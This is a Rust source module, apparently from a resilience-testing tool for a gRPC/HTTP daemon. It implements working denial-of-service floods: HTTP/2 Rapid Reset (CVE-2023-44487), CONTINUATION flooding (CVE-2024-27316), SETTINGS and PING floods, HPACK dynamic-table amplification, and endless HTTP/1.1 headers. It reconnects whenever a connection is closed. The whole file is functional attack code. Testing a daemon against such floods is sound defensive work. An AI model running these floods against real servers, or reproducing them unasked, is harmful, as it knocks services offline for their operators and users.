//! Frames that cost the sender little and the receiver much.

use super::{REPLACE_AFTER, again, each};
use crate::frames::{
    CANCEL, CONTINUATION, DATA, DYNAMIC_INDEX_MIN, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, GOAWAY, HEADERS,
    Head, PING, RST_STREAM, WINDOW_AT_FIRST, ending, goaway, grpc_fields, grpc_message, list_bytes, put,
    put_entries, put_field_start, put_fields, put_opening, put_reference, put_stream_window, read_frame,
};
use crate::grpc::{FETCH_BLOCKS, fetch_blocks};
use crate::hold::Hold;
use crate::tally::{Tally, wide};
use crate::target::Target;
use std::collections::HashSet;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncWriteExt as _, BufReader};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;

/// Last stream number used; the flood continues on a new connection.
const STREAM_MAX: u32 = 1 << 30;
const FRAMES_A_WRITE: u32 = 100;
/// Most frames a second on each connection, so that the sender's own CPU use is known.
const FRAMES_A_SECOND: u32 = 10_000;
/// Frames at a time of which the daemon takes few before it closes the connection: more would be lost with it, uncounted.
const FEW_FRAMES_A_WRITE: u32 = 4;
/// The daemon's limit of a list of headers.
const LIST_BYTES_MAX: usize = 16 << 10;
/// The field that is referred to.
const REFERRED: &str = "a";
/// With the other fields of a request it fits into a table of 4 KiB.
const LONG_VALUE_BYTES: usize = 3600;
/// 30 MB decoded.
const REFERENCES_FAR_OVER: usize = 8 << 10;
/// Open requests of a connection, of the 256 that it may have by default.
const OPEN_STREAMS: u32 = 250;

/// What is sent endlessly.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Whole requests, each cancelled at once (CVE-2023-44487).
    RapidReset,
    /// Heads of requests with a part of their body, each cancelled.
    ResetAfterHeaders,
    /// SETTINGS, whose acknowledgements are not read.
    Settings,
    /// PING, whose acknowledgements are not read.
    Ping,
    /// One head continued in CONTINUATION frames (CVE-2024-27316).
    Continuation,
    /// Requests with thousands of header fields.
    Headers,
    /// Requests with as many header fields as are allowed, each a byte that refers to an entry of HPACK's dynamic table.
    IndexedHeaders,
    /// Requests whose 8 KiB of such bytes refer to an entry of 3.6 KB.
    IndexedHeadersOver,
    /// A head whose last field does not end, in CONTINUATION frames of 16 KiB.
    Http2LongHead,
    /// SETTINGS that close and open the windows of 250 requests that do not end. At most for as long as those may wait for a body.
    SettingsWindows,
    /// One request whose body is DATA frames of no bytes.
    EmptyData,
    /// One HTTP/1.1 request with endless header fields.
    HttpHeaders,
}

impl Kind {
    /// Whether answers are read: some floods are worse if they are not.
    fn reads(self) -> bool {
        !matches!(self, Self::Settings | Self::Ping)
    }

    fn frames_a_write(self) -> u32 {
        if matches!(self, Self::IndexedHeadersOver | Self::Http2LongHead) {
            FEW_FRAMES_A_WRITE
        } else {
            FRAMES_A_WRITE
        }
    }
}

/// Which flood, on how many connections.
#[derive(Debug, Clone, clap::Args)]
pub struct Options {
    /// What is sent.
    #[arg(value_enum)]
    pub kind: Kind,
    /// Connections.
    #[arg(long, default_value_t = 8)]
    pub connections: usize,
}

/// Runs the case. A connection that is closed is replaced at once.
///
/// # Errors
/// A task panicked.
pub async fn run(target: &Target, options: &Options, hold: &Hold, tally: &Tally) -> io::Result<()> {
    each(options.connections, |_| {
        let (target, options, hold, tally) = (target.clone(), options.clone(), hold.clone(), tally.clone());
        async move {
            let (target, options, hold, tally) = (&target, &options, &hold, &tally);
            let address = if options.kind == Kind::HttpHeaders {
                target.http
            } else {
                target.grpc
            };
            let connect = || target.connect(address);
            again(hold, tally, Some(REPLACE_AFTER), connect, |stream| async move {
                if let Some(how) = hold.unless_ended(flood(stream, target, options, tally)).await {
                    tally.closed(&how);
                }
            })
            .await;
        }
    })
    .await
}

/// Floods one connection until the daemon closes it; returns how it ended.
async fn flood(stream: TcpStream, target: &Target, options: &Options, tally: &Tally) -> String {
    let (reader, mut writer) = stream.into_split();
    let room = Semaphore::new(OPEN_STREAMS as usize);
    let write = async {
        let mut frames = Frames::new(options.kind, target);
        writer.write_all(&frames.opening(tally)).await?;
        let pause = Duration::from_secs(1) * FRAMES_A_WRITE / FRAMES_A_SECOND;
        let mut ticks = tokio::time::interval(pause);
        ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
        let mut out = Vec::new();
        while frames.next_stream < STREAM_MAX {
            ticks.tick().await;
            if options.kind == Kind::IndexedHeaders
                && let Ok(permits) = room.acquire_many(FRAMES_A_WRITE).await
            {
                permits.forget();
            }
            out.clear();
            let sent = frames.fill(&mut out);
            writer.write_all(&out).await?;
            tally.change(|counts| {
                counts.frames_sent = counts.frames_sent.saturating_add(sent.into());
                counts.bytes_sent = counts.bytes_sent.saturating_add(wide(out.len()));
            });
        }
        Ok::<_, io::Error>(())
    };
    let read = async {
        if !options.kind.reads() {
            return std::future::pending().await;
        }
        let mut reader = BufReader::new(reader);
        if options.kind == Kind::HttpHeaders {
            let mut answer = Vec::new();
            return match tokio::io::AsyncReadExt::read_to_end(&mut reader, &mut answer).await {
                Ok(_) => {
                    let line = str::from_utf8(&answer).unwrap_or_default();
                    let status =
                        crate::http1::status_of(line).map_or(String::new(), |code| format!("HTTP {code}, "));
                    format!("{status}end of stream")
                }
                Err(error) => ending(&error),
            };
        }
        let mut begun = HashSet::new();
        loop {
            match read_frame(&mut reader).await {
                Ok((head, payload)) => {
                    tally.received(head.length + 9);
                    if count_end(head, &mut begun, tally) {
                        room.add_permits(1);
                    }
                    if head.kind == GOAWAY {
                        return goaway(&payload);
                    }
                }
                Err(error) => return ending(&error),
            }
        }
    };
    tokio::pin!(read);
    tokio::select! {
        how = &mut read => how,
        written = write => match written {
            Ok(()) => "out of stream numbers".to_owned(),
            // The daemon's reason for closing may still be readable.
            Err(error) => match tokio::time::timeout(Duration::from_millis(200), read).await {
                Ok(how) => how,
                Err(_) => ending(&error),
            },
        },
    }
}

/// Counts the end of an answer that has `begun`, or a refusal: an answer that ends with its head. Returns whether a request ends.
fn count_end(head: Head, begun: &mut HashSet<u32>, tally: &Tally) -> bool {
    match head.kind {
        HEADERS if head.flags & END_STREAM == 0 => {
            begun.insert(head.stream);
            return false;
        }
        HEADERS if begun.remove(&head.stream) => tally.change(|counts| counts.answers += 1),
        // Its code is compressed and not decoded.
        HEADERS => tally.refused("refused", None),
        RST_STREAM => {}
        _ => return false,
    }
    true
}

struct Frames {
    kind: Kind,
    head: Vec<u8>,
    body: Vec<u8>,
    next_stream: u32,
}

impl Frames {
    fn new(kind: Kind, target: &Target) -> Self {
        let mut head = Vec::new();
        put_fields(&mut head, &grpc_fields(FETCH_BLOCKS));
        Self {
            kind,
            head,
            body: grpc_message(&fetch_blocks(target, [0])),
            next_stream: 1,
        }
    }

    fn opening(&mut self, tally: &Tally) -> Vec<u8> {
        let mut out = Vec::new();
        if self.kind == Kind::HttpHeaders {
            out.extend_from_slice(b"GET / HTTP/1.1\r\nHost: localhost\r\n");
            return out;
        }
        put_opening(&mut out, WINDOW_AT_FIRST);
        match self.kind {
            Kind::Continuation => put(&mut out, HEADERS, END_STREAM, 1, &self.head),
            Kind::EmptyData => put(&mut out, HEADERS, END_HEADERS, 1, &self.head),
            Kind::Http2LongHead => {
                let mut fields = self.head.clone();
                put_field_start(&mut fields, "x-long", 1 << 20);
                put(&mut out, HEADERS, END_STREAM, 1, &fields);
            }
            Kind::SettingsWindows => {
                for call in 0..OPEN_STREAMS {
                    put(&mut out, HEADERS, END_HEADERS, 2 * call + 1, &self.head);
                }
                tally.change(|counts| counts.calls = counts.calls.saturating_add(OPEN_STREAMS.into()));
            }
            Kind::IndexedHeaders => {
                let left = LIST_BYTES_MAX - 1 - list_bytes(&grpc_fields(FETCH_BLOCKS));
                self.refer(&mut out, "", left / list_bytes(&[(REFERRED, "")]));
            }
            Kind::IndexedHeadersOver => {
                self.refer(&mut out, &"b".repeat(LONG_VALUE_BYTES), REFERENCES_FAR_OVER);
            }
            Kind::RapidReset
            | Kind::ResetAfterHeaders
            | Kind::Settings
            | Kind::Ping
            | Kind::Headers
            | Kind::HttpHeaders => {}
        }
        out
    }

    /// Appends a request whose fields become entries of the table, with one more field. The heads of the following ones refer to
    /// them, and so many times to that field.
    fn refer(&mut self, out: &mut Vec<u8>, value: &str, references: usize) {
        let mut fields = grpc_fields(FETCH_BLOCKS);
        let oldest = DYNAMIC_INDEX_MIN + u8::try_from(fields.len()).unwrap_or(0);
        fields.push((REFERRED, value));
        self.head.clear();
        put_entries(&mut self.head, &fields);
        put(out, HEADERS, END_HEADERS, 1, &self.head);
        put(out, DATA, END_STREAM, 1, &self.body);
        self.next_stream = 3;
        self.head.clear();
        let of_request = (DYNAMIC_INDEX_MIN + 1..=oldest).rev();
        for index in of_request.chain(std::iter::repeat_n(DYNAMIC_INDEX_MIN, references)) {
            put_reference(&mut self.head, index);
        }
    }

    /// Appends about one write's worth of frames; returns how many.
    fn fill(&mut self, out: &mut Vec<u8>) -> u32 {
        let frames = self.kind.frames_a_write();
        for number in 0..frames {
            let stream = self.next_stream;
            match self.kind {
                Kind::RapidReset => {
                    put(out, HEADERS, END_HEADERS, stream, &self.head);
                    put(out, DATA, END_STREAM, stream, &self.body);
                    put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    self.next_stream += 2;
                }
                Kind::ResetAfterHeaders => {
                    put(out, HEADERS, END_HEADERS, stream, &self.head);
                    put(out, DATA, 0, stream, &self.body[..5]);
                    put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    self.next_stream += 2;
                }
                Kind::Settings => put_stream_window(out, WINDOW_AT_FIRST),
                Kind::SettingsWindows => {
                    put_stream_window(out, if number % 2 == 0 { 0 } else { WINDOW_AT_FIRST });
                }
                Kind::Ping => put(out, PING, 0, 0, &[0; 8]),
                Kind::Continuation => {
                    let mut fields = Vec::new();
                    put_fields(&mut fields, &[("x-more", "0123456789abcdef0123456789abcdef")]);
                    put(out, CONTINUATION, 0, 1, &fields);
                }
                Kind::Headers => {
                    let mut fields = self.head.clone();
                    let value = "0123456789abcdef0123456789abcdef";
                    while fields.len() < FRAME_BYTES_MAX - 64 {
                        put_fields(&mut fields, &[("x-many", value)]);
                    }
                    put(out, HEADERS, 0, stream, &fields);
                    put(out, CONTINUATION, END_HEADERS, stream, &fields[self.head.len()..]);
                    put(out, DATA, END_STREAM, stream, &self.body);
                    self.next_stream += 2;
                }
                Kind::IndexedHeaders | Kind::IndexedHeadersOver => {
                    put(out, HEADERS, END_HEADERS, stream, &self.head);
                    put(out, DATA, END_STREAM, stream, &self.body);
                    self.next_stream += 2;
                }
                Kind::Http2LongHead => put(out, CONTINUATION, 0, 1, &[b'a'; FRAME_BYTES_MAX]),
                Kind::EmptyData => put(out, DATA, 0, 1, &[]),
                Kind::HttpHeaders => out.extend_from_slice(b"x-more: 0123456789abcdef0123456789abcdef\r\n"),
            }
        }
        frames
    }
}
